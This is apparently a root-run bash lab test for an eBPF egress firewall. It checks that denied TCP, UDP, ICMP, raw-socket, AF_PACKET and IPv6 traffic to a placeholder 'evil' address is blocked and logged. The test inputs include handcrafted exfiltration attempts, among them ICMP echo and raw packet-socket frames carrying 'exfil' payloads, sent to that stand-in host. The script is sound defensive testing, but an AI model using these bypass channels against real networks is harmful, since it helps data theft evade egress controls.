#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Issue 4's data plane in the lab: a denied connect fails at once with EPERM; UDP to an allowed
# host on a port its rule does not list, ICMP echo to a denied address, fragmented UDP to a
# denied address from outside the hooked cgroup (TC alone), a raw socket, and an AF_PACKET
# sender asking for PACKET_QDISC_BYPASS: nothing arrives in the internet namespace (a sniffer
# there), and each is logged. Then the same over IPv6: connect6 to a denied address (and to an
# IPv4-mapped one) fails at once with EPERM, allowed.test works over IPv6 from its learned AAAA,
# UDP to allowed.test's IPv6 address on an unlisted port is refused, a raw AF_INET6 socket is
# refused, and from outside the hooked cgroup TC drops ICMPv6 echo and fragmented UDP to the
# denied IPv6 address. One PASS/FAIL line per check; exit 1 if any failed.
set -euo pipefail
. "$(dirname "$0")/lab.sh"
lab_require_root
[ -x "$CW_BIN" ] || lab_die "no launcher at $CW_BIN (build first, or set CW_BUILD / CW_BIN)"

trap 'sniff_stop; lab_teardown' EXIT
trap 'exit 130' INT TERM
lab_setup

PCAP=$LAB/inet.pcap
SNIFF_PID=
# IPv6 too, without what the link itself needs: multicast (ND to solicited-node groups, MLD)
# and neighbour discovery to unicast addresses (ICMPv6 types 133-137 right after the header).
SNIFF_FILTER="not arp and not ip6 multicast and not (icmp6 and ip6[40] >= 133 and ip6[40] <= 137)"
sniff_start() {
	ip netns exec "$LAB_INET" tcpdump -i "$LAB_INET_IF" -n -U -w "$PCAP" \
		"$SNIFF_FILTER" >/dev/null 2>&1 &
	SNIFF_PID=$!
	sleep 1
}
sniff_stop() {
	if [ -n "$SNIFF_PID" ]; then
		kill "$SNIFF_PID" 2>/dev/null || true
		wait "$SNIFF_PID" 2>/dev/null || true
		SNIFF_PID=
	fi
}
# sniffed FILTER: how many captured packets match a tcpdump filter
sniffed() {
	tcpdump -n -r "$PCAP" "$1" 2>/dev/null | wc -l
}

# py CODE: python3 in the workload (cgroup + runner netns); prints what CODE prints.
py() {
	lab_workload timeout 10 "$LAB_PYTHON" -c "$1" 2>&1 || true
}

echo "== start: enforce, allowed.test on tcp/80 only, default deny"
cat >"$LAB/policy.json" <<JSON
{ "defaultAction": "deny",
  "rules": [ { "type": "hostname", "value": "allowed.test",
               "ports": [ { "port": 80, "protocol": "tcp" } ], "action": "allow" } ] }
JSON
if lab_cw start --config "$LAB/policy.json" --mode enforce --interface "$LAB_IF" \
	--cgroup "$LAB_CG" --dns-upstream "$LAB_UPSTREAM" --audit-log "$LAB_AUDIT" \
	--state-dir "$LAB_STATE" --bpffs "$LAB_PINS" --allow-private-answers; then
	lab_pass "cargowall start returned 0"
else
	lab_fail "cargowall start failed"
	lab_results
	exit 1
fi
sniff_start

echo "== the TC egress program: a TCX link on 6.6+ (first in line), a clsact filter before"
# bpftool 7.1 (Debian 12) cannot show TCX: tests/lab/cw-linkcheck.c lists what runs there.
LINKCHECK=$CW_BUILD/bin/cw-linkcheck
tcx_list() { ip netns exec "$LAB_RUNNER" "$LINKCHECK" tcx "$LAB_IF" 2>&1 || true; }
tc_filters() { ip netns exec "$LAB_RUNNER" tc filter show dev "$LAB_IF" egress 2>/dev/null; }
tcx_first() { tcx_list | head -n1 | grep -q ' #0 prog [0-9]* cw_tc_egress '; }
if ! printf '6.6\n%s\n' "$(uname -r | cut -d- -f1)" | sort -V -C; then
	lab_check "kernel $(uname -r) has no TCX: a clsact filter on $LAB_IF" test -n "$(tc_filters)"
else
	lab_check "cw_tc_egress runs first on $LAB_IF's TCX egress: $(tcx_list | tr '\n' ';')" \
		tcx_first
	lab_check "TCX: its link pinned under --bpffs" test -e "$LAB_PINS/link_tcx_egress_$LAB_IF"
	lab_check "TCX: no clsact filter as well" test -z "$(tc_filters)"
fi

echo "== a denied connect fails at once with EPERM"
out=$(py "
import socket, time, errno
s = socket.socket(); s.settimeout(3); t = time.monotonic()
try:
    s.connect(('$LAB_EVIL_IP', 80)); print('connected')
except OSError as e:
    print(errno.errorcode.get(e.errno, e.errno), round((time.monotonic() - t) * 1000, 1))
")
read -r err ms <<<"$out"
if [ "$err" = EPERM ] && awk -v m="$ms" 'BEGIN { exit !(m < 100) }'; then
	lab_pass "connect to $LAB_EVIL_IP:80: EPERM after $ms ms"
else
	lab_fail "connect to $LAB_EVIL_IP:80: want EPERM in < 100 ms, got: $out"
fi
body=$(lab_workload timeout 5 curl -s -m 3 http://allowed.test/ 2>&1 || true)
[ "$body" = allowed ] && lab_pass "allowed.test:80 works" || lab_fail "allowed.test:80: $body"
# allowed.test has an AAAA too, which curl prefers: IPv4 explicitly, for the sniffer check below.
body=$(lab_workload timeout 5 curl -4 -s -m 3 http://allowed.test/ 2>&1 || true)
[ "$body" = allowed ] && lab_pass "allowed.test:80 works over IPv4 (curl -4)" ||
	lab_fail "allowed.test:80 over IPv4: $body"
out=$(py "
import socket
s = socket.socket(); s.settimeout(3)
try:
    s.connect(('$LAB_ALLOWED_IP', 8080)); print('connected')
except OSError as e:
    print(e.errno)
")
[ "$out" = 1 ] && lab_pass "allowed.test on tcp/8080 (not in the rule): EPERM" ||
	lab_fail "allowed.test on tcp/8080: $out"

echo "== UDP to the allowed host on a port its rule does not list"
out=$(py "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b'secret', ('$LAB_ALLOWED_IP', 9999)); print('sent')
except OSError as e:
    print(e.errno)
")
[ "$out" = 1 ] && lab_pass "sendto $LAB_ALLOWED_IP:9999/udp: EPERM" || lab_fail "udp 9999: $out"

echo "== UDP connect() to a denied address: refused at once, marked as sending nothing"
# TC watches only the uplinks: a UDP socket connected to a denied address must fail at connect
# (another interface could route it), and the log must say no packet was sent (glibc's
# getaddrinfo connects UDP sockets only to sort answers).
out=$(py "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.connect(('$LAB_EVIL_IP', 7000)); print('connected')
except OSError as e:
    print(e.errno)
")
[ "$out" = 1 ] && lab_pass "UDP connect to $LAB_EVIL_IP:7000: EPERM" || lab_fail "UDP connect: $out"
lab_check "audit: that refusal is marked no_packet" lab_audit_wait "$LAB_AUDIT" \
	event_type=connection_blocked dst_ip="$LAB_EVIL_IP" dst_port=7000 no_packet=true

echo "== ICMP echo to a denied address"
# ICMP echo from a raw socket: in the hooked cgroup the socket itself is refused; outside it
# (another process on the runner) TC drops the echo.
ICMP_ECHO="
import socket, struct, sys
def csum(b):
    t = sum(struct.unpack('!%dH' % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); t += t >> 16
    return ~t & 0xffff
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
except OSError as e:
    print('socket', e.errno); sys.exit()
s.settimeout(1)
h = struct.pack('!BBHHH', 8, 0, 0, 7, 1) + b'exfil-by-ping!!!'
h = h[:2] + struct.pack('!H', csum(h)) + h[4:]
try:
    s.sendto(h, ('$LAB_EVIL_IP', 0)); s.recv(100); print('reply')
except OSError as e:
    print('noreply', e.errno)
"
out=$(py "$ICMP_ECHO")
[ "$out" = "socket 1" ] && lab_pass "ICMP echo in the cgroup: raw socket refused (EPERM)" ||
	lab_fail "ICMP echo in the cgroup: $out"
out=$(lab_runner timeout 5 "$LAB_PYTHON" -c "$ICMP_ECHO" 2>&1 || true)
case $out in
noreply*) lab_pass "ICMP echo outside the cgroup: no reply ($out)" ;;
*) lab_fail "ICMP echo outside the cgroup: $out" ;;
esac

echo "== a raw socket"
out=$(py "
import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP); print('created')
except OSError as e:
    print(e.errno)
")
[ "$out" = 1 ] && lab_pass "raw socket: EPERM" || lab_fail "raw socket: $out"

echo "== AF_PACKET: PACKET_QDISC_BYPASS refused; plain packet-socket frames judged by TC"
mac=$(ip netns exec "$LAB_INET" cat "/sys/class/net/$LAB_INET_IF/address")
out=$(py "
import socket, struct
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(('$LAB_IF', 0))
try:
    s.setsockopt(263, 20, 1); print('bypass-on', end=' ')
except OSError as e:
    print('bypass-%d' % e.errno, end=' ')
def csum(b):
    if len(b) % 2: b += b'\0'
    t = sum(struct.unpack('!%dH' % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); t += t >> 16
    return ~t & 0xffff
payload = b'exfil via a packet socket'
udp = struct.pack('!HHHH', 40000, 7777, 8 + len(payload), 0) + payload
src, dst = socket.inet_aton('$LAB_RUNNER_IP'), socket.inet_aton('$LAB_EVIL_IP')
ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, src, dst)
ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
mac = bytes.fromhex('$mac'.replace(':', ''))
try:
    s.send(mac + s.getsockname()[4] + b'\x08\x00' + ip + udp)
    print('sent')
except OSError as e:
    print('sent' if e.errno == 105 else e) # ENOBUFS: the frame was dropped on its way out
")
case $out in
bypass-1\ sent) lab_pass "PACKET_QDISC_BYPASS: EPERM; a frame was sent without it" ;;
*) lab_fail "AF_PACKET: $out" ;;
esac

echo "== fragmented UDP to a denied address from outside the hooked cgroup (TC alone)"
lab_runner timeout 5 "$LAB_PYTHON" -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'x' * 4000, ('$LAB_EVIL_IP', 6666))
" >/dev/null 2>&1 || true
lab_runner timeout 5 "$LAB_PYTHON" -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'y' * 4000, ('$LAB_ALLOWED_IP', 6666))
" >/dev/null 2>&1 || true

echo "== IPv6: a denied connect6 fails at once with EPERM"
out=$(py "
import socket, time, errno
s = socket.socket(socket.AF_INET6); s.settimeout(3); t = time.monotonic()
try:
    s.connect(('$LAB_EVIL_IP6', 80)); print('connected')
except OSError as e:
    print(errno.errorcode.get(e.errno, e.errno), round((time.monotonic() - t) * 1000, 1))
")
read -r err ms <<<"$out"
if [ "$err" = EPERM ] && awk -v m="$ms" 'BEGIN { exit !(m < 100) }'; then
	lab_pass "connect to [$LAB_EVIL_IP6]:80: EPERM after $ms ms"
else
	lab_fail "connect to [$LAB_EVIL_IP6]:80: want EPERM in < 100 ms, got: $out"
fi
# curl -v names the errno of the failed connect; -w gives curl's own elapsed time.
out=$(lab_workload timeout 5 curl -6 -g -v -s -m 3 -o /dev/null -w 'time_total=%{time_total}\n' \
	"http://[$LAB_EVIL_IP6]/" 2>&1 || true)
secs=$(sed -n 's/^time_total=//p' <<<"$out")
if grep -q "connect fail for $LAB_EVIL_IP6: Operation not permitted" <<<"$out" &&
	awk -v t="$secs" 'BEGIN { exit !(t != "" && t < 0.1) }'; then
	lab_pass "curl -6 http://[$LAB_EVIL_IP6]/: Operation not permitted after ${secs} s"
else
	lab_fail "curl -6 http://[$LAB_EVIL_IP6]/: want Operation not permitted in < 0.1 s, got: $(tr '\n' ' ' <<<"$out" | cut -c1-400)"
fi
out=$(lab_workload timeout 5 curl -6 -sS -m 3 -o "$LAB/allowed6.body" -w '%{remote_ip}' \
	http://allowed.test/ 2>&1 || true)
[ "$out" = "$LAB_ALLOWED_IP6" ] && [ "$(cat "$LAB/allowed6.body")" = allowed ] &&
	lab_pass "curl -6 http://allowed.test/ works over IPv6 (learned AAAA $LAB_ALLOWED_IP6)" ||
	lab_fail "curl -6 http://allowed.test/: $out $(head -c 80 "$LAB/allowed6.body" 2>/dev/null)"
out=$(py "
import socket
s = socket.socket(socket.AF_INET6); s.settimeout(3)
try:
    s.connect(('$LAB_ALLOWED_IP6', 8080)); print('connected')
except OSError as e:
    print(e.errno)
")
[ "$out" = 1 ] && lab_pass "[$LAB_ALLOWED_IP6]:8080/tcp (not in the rule): EPERM" ||
	lab_fail "[$LAB_ALLOWED_IP6]:8080/tcp: $out"
out=$(py "
import socket
s = socket.socket(socket.AF_INET6); s.settimeout(3)
try:
    s.connect(('::ffff:$LAB_EVIL_IP', 80)); print('connected')
except OSError as e:
    print(e.errno)
")
[ "$out" = 1 ] && lab_pass "AF_INET6 connect to ::ffff:$LAB_EVIL_IP (IPv4-mapped): EPERM" ||
	lab_fail "AF_INET6 connect to ::ffff:$LAB_EVIL_IP: $out"

echo "== IPv6: UDP to the allowed host on a port its rule does not list"
out=$(py "
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
try:
    s.sendto(b'secret6', ('$LAB_ALLOWED_IP6', 9999)); print('sent')
except OSError as e:
    print(e.errno)
")
[ "$out" = 1 ] && lab_pass "sendto [$LAB_ALLOWED_IP6]:9999/udp: EPERM" || lab_fail "udp6 9999: $out"

echo "== IPv6: a raw socket; ICMPv6 echo and fragmented UDP from outside the hooked cgroup (TC)"
out=$(py "
import socket
try:
    socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6); print('created')
except OSError as e:
    print(e.errno)
")
[ "$out" = 1 ] && lab_pass "raw AF_INET6 socket in the cgroup: EPERM" ||
	lab_fail "raw AF_INET6 socket: $out"
# The kernel fills in the ICMPv6 checksum of a raw ICMPv6 socket.
out=$(lab_runner timeout 5 "$LAB_PYTHON" -c "
import socket, time
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6); s.settimeout(0.2)
end = time.monotonic() + 1
try:
    s.sendto(bytes([128, 0, 0, 0, 0, 7, 0, 1]) + b'exfil-by-ping6!!', ('$LAB_EVIL_IP6', 0))
except OSError as e:
    print('noreply', e.errno); raise SystemExit
while time.monotonic() < end: # other ICMPv6 (neighbour discovery) arrives here too
    try:
        if s.recv(200)[0] == 129:
            print('reply'); break
    except TimeoutError:
        pass
else:
    print('noreply timeout')
" 2>&1 || true)
case $out in
noreply*) lab_pass "ICMPv6 echo to $LAB_EVIL_IP6 outside the cgroup: no reply ($out)" ;;
*) lab_fail "ICMPv6 echo to $LAB_EVIL_IP6 outside the cgroup: $out" ;;
esac
# 4000 bytes over a 1500-byte link: a Fragment extension header on every piece.
lab_runner timeout 5 "$LAB_PYTHON" -c "
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.sendto(b'z' * 4000, ('$LAB_EVIL_IP6', 6666))
" >/dev/null 2>&1 || true

sleep 1
sniff_stop
n=$(sniffed "dst host $LAB_EVIL_IP")
[ "$n" -eq 0 ] && lab_pass "sniffer: nothing reached $LAB_EVIL_IP" ||
	lab_fail "sniffer: $n packet(s) reached $LAB_EVIL_IP: $(tcpdump -n -r "$PCAP" "dst host $LAB_EVIL_IP" 2>/dev/null | head -3)"
n=$(sniffed "dst host $LAB_ALLOWED_IP and udp")
[ "$n" -eq 0 ] && lab_pass "sniffer: no UDP reached $LAB_ALLOWED_IP (its rule is tcp/80)" ||
	lab_fail "sniffer: $n UDP packet(s) reached $LAB_ALLOWED_IP"
n=$(sniffed "dst host $LAB_ALLOWED_IP and tcp port 80")
[ "$n" -gt 0 ] && lab_pass "sniffer: the allowed HTTP traffic did arrive ($n packets)" ||
	lab_fail "sniffer saw no allowed traffic: the capture itself is broken"
n=$(sniffed "dst host $LAB_EVIL_IP6")
[ "$n" -eq 0 ] && lab_pass "sniffer: nothing reached $LAB_EVIL_IP6" ||
	lab_fail "sniffer: $n packet(s) reached $LAB_EVIL_IP6: $(tcpdump -n -r "$PCAP" \
		"dst host $LAB_EVIL_IP6" 2>/dev/null | head -3)"
n=$(sniffed "dst host $LAB_ALLOWED_IP6 and udp")
[ "$n" -eq 0 ] && lab_pass "sniffer: no UDP reached $LAB_ALLOWED_IP6 (its rule is tcp/80)" ||
	lab_fail "sniffer: $n UDP packet(s) reached $LAB_ALLOWED_IP6"
n=$(sniffed "dst host $LAB_ALLOWED_IP6 and tcp port 80")
[ "$n" -gt 0 ] && lab_pass "sniffer: the allowed HTTP traffic over IPv6 did arrive ($n packets)" ||
	lab_fail "sniffer saw no allowed IPv6 traffic: the IPv6 capture is broken"

echo "== each logged"
lab_check "audit: connection_blocked $LAB_EVIL_IP:80 (connect4)" lab_audit_wait "$LAB_AUDIT" \
	event_type=connection_blocked dst_ip="$LAB_EVIL_IP" dst_port=80 hook=connect4
lab_check "audit: connection_blocked $LAB_ALLOWED_IP:8080" lab_audit_wait "$LAB_AUDIT" \
	event_type=connection_blocked dst_ip="$LAB_ALLOWED_IP" dst_port=8080
lab_check "audit: connection_blocked udp $LAB_ALLOWED_IP:9999 (sendmsg4)" lab_audit_wait \
	"$LAB_AUDIT" event_type=connection_blocked dst_ip="$LAB_ALLOWED_IP" dst_port=9999 \
	protocol=UDP hook=sendmsg4
lab_check "audit: ICMP to $LAB_EVIL_IP blocked at TC" lab_audit_wait "$LAB_AUDIT" \
	event_type=connection_blocked dst_ip="$LAB_EVIL_IP" protocol=ICMP hook=tc
lab_check "audit: protocol_blocked raw socket" lab_audit_wait "$LAB_AUDIT" \
	event_type=protocol_blocked hook=sock_create socket=raw
lab_check "audit: protocol_blocked PACKET_QDISC_BYPASS" lab_audit_wait "$LAB_AUDIT" \
	event_type=protocol_blocked hook=setsockopt sockopt_level=263 sockopt=20
lab_check "audit: the packet-socket frame dropped at TC" lab_audit_wait "$LAB_AUDIT" \
	event_type=connection_blocked dst_ip="$LAB_EVIL_IP" dst_port=7777 hook=tc
lab_check "audit: the fragmented datagram dropped at TC" lab_audit_wait "$LAB_AUDIT" \
	event_type=connection_blocked dst_ip="$LAB_EVIL_IP" dst_port=6666 hook=tc

lab_check "audit: connection_blocked [$LAB_EVIL_IP6]:80 (connect6)" lab_audit_wait "$LAB_AUDIT" \
	event_type=connection_blocked dst_ip="$LAB_EVIL_IP6" dst_port=80 hook=connect6
lab_check "audit: connection_blocked [$LAB_ALLOWED_IP6]:8080 (connect6)" lab_audit_wait \
	"$LAB_AUDIT" event_type=connection_blocked dst_ip="$LAB_ALLOWED_IP6" dst_port=8080 \
	hook=connect6
# An IPv4-mapped destination is judged, and reported, as the IPv4 address it leaves as.
lab_check "audit: connection_blocked ::ffff:$LAB_EVIL_IP as $LAB_EVIL_IP (connect6)" \
	lab_audit_wait "$LAB_AUDIT" event_type=connection_blocked dst_ip="$LAB_EVIL_IP" dst_port=80 \
	hook=connect6
lab_check "audit: connection_blocked udp [$LAB_ALLOWED_IP6]:9999 (sendmsg6)" lab_audit_wait \
	"$LAB_AUDIT" event_type=connection_blocked dst_ip="$LAB_ALLOWED_IP6" dst_port=9999 \
	protocol=UDP hook=sendmsg6
lab_check "audit: protocol_blocked raw AF_INET6 socket" lab_audit_wait "$LAB_AUDIT" \
	event_type=protocol_blocked hook=sock_create socket=raw socket_family=inet6
lab_check "audit: ICMPv6 to $LAB_EVIL_IP6 blocked at TC" lab_audit_wait "$LAB_AUDIT" \
	event_type=connection_blocked dst_ip="$LAB_EVIL_IP6" protocol=ICMPv6 hook=tc
lab_check "audit: the fragmented IPv6 datagram dropped at TC" lab_audit_wait "$LAB_AUDIT" \
	event_type=connection_blocked dst_ip="$LAB_EVIL_IP6" dst_port=6666 hook=tc

lab_check "cargowall stop" lab_cw stop
# Without --state-dir the line above finds no state (the lab's is $LAB_STATE) and stops nothing.
lab_check "cargowall stop --state-dir $LAB_STATE" lab_cw stop --state-dir "$LAB_STATE"
lab_check "after stop: no TCX program on $LAB_IF ($(tcx_list | tr '\n' ';'))" test -z "$(tcx_list)"
lab_check "after stop: no TC filter on $LAB_IF" test -z "$(tc_filters)"
lab_check "audit log: every line is JSON" lab_audit_validate "$LAB_AUDIT"
lab_results
